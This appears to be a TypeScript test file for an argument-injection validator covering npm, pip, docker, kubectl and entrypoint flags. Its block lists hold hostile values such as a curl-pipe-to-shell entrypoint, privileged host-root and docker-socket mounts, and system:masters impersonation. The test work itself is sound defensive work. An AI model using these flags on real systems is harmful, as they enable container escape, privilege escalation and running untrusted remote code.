import { type ArgCase, runCases } from "./_arginj_testing.ts";

const CASES: ArgCase[] = [
  {
    id: "pkg.npm_shell",
    block: [
      "--script-shell=/tmp/x.sh",
      "--node-options='--require /tmp/x.js'",
      "--userconfig=https://x.example/npmrc",
      "--shell 'bash -c id'",
    ],
    pass: [
      "--save-dev --legacy-peer-deps",
      "--script-shell=bash",
      "--node-options=--max-old-space-size=4096",
    ],
  },
  {
    id: "pkg.pip_remote_source",
    block: [
      "--index-url http://pkgs.example.net/simple --trusted-host pkgs.example.net",
      "--trusted-host x.example -i http://x.example/s",
    ],
    pass: [
      "--index-url=https://pypi.org/simple/",
      "--extra-index-url https://download.pytorch.org/whl/cpu",
      "-i http://localhost:3141/root/pypi --trusted-host localhost",
    ],
  },
  {
    id: "pkg.container_host_access",
    block: [
      "-v /:/host --privileged",
      "--privileged",
      "-v /var/run/docker.sock:/sock",
      "--pid=host",
      "--cap-add=SYS_ADMIN",
      "--security-opt apparmor=unconfined",
      "--device /dev/sda",
      "--mount type=bind,source=/,target=/h",
      "--volume=/etc:/x:ro",
    ],
    pass: [
      "--rm -it -p 8080:80 -v ./data:/data",
      "--cap-add NET_BIND_SERVICE",
      "--security-opt no-new-privileges --read-only",
      "--network host",
      "-v app-data:/var/lib/app",
    ],
  },
  {
    id: "pkg.kube_identity",
    block: [
      "--as=system:admin",
      "--as-group=system:masters",
      "--kubeconfig=/tmp/k",
      "--server=https://x.example:6443 --insecure-skip-tls-verify",
    ],
    pass: ["--namespace prod -o yaml", "--as=jane@example.com", "--kubeconfig ~/.kube/staging"],
  },
  {
    id: "pkg.entrypoint_shell",
    block: ["--entrypoint sh alpine -c 'curl x|sh'", "--entrypoint=/bin/bash img -c 'id'"],
    pass: ["--entrypoint /app/start.sh", "--entrypoint ''"],
  },
];

runCases("packages", CASES);
